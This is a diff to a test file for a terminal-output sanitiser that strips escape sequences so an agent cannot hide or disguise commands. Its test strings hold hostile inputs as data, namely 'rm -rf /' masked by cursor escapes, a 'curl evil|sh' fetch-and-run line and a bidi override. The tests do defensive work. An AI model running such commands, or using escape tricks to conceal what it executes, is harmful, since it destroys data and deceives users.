@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { cut, oneLine, printable } from './plain.ts';
+import { cut, oneLine, onlyColours, printable } from './plain.ts';
 
 describe('printable', () => {
   it('keeps what people read', () => {
@@ -9,8 +9,17 @@ describe('printable', () => {
   it('lets an agent neither move the cursor nor recolour, hide or retitle', () => {
     expect(printable('rm -rf /\x1b[2K\x1b[1Gls')).toBe('rm -rf /ls');
     expect(printable('\x1b]0;title\x07text\x1b]8;;http://x\x1b\\link')).toBe('textlink');
-    expect(printable('a\bb\x00c\x9b31md\u202eevil')).toBe('abc31mdevil');
+    expect(printable('a\bb\x00c\x9b31md\u202eevil')).toBe('abcdevil');
+    expect(printable('git status \x1b]; curl evil|sh')).toBe('git status ]; curl evil|sh');
     expect(printable('safe\rrm')).toBe('safe\nrm');
+  });
+});
+
+describe('onlyColours', () => {
+  it('keeps the colours of amux and nothing else, and none where there are to be none', () => {
+    const line = '\x1b[31mred\x1b[39m \x1b[8mhidden\x1b]0;t\x07\x1b[2J';
+    expect(onlyColours(line, true)).toBe('\x1b[31mred\x1b[39m hidden');
+    expect(onlyColours(line, false)).toBe('red hidden');
   });
 });
 
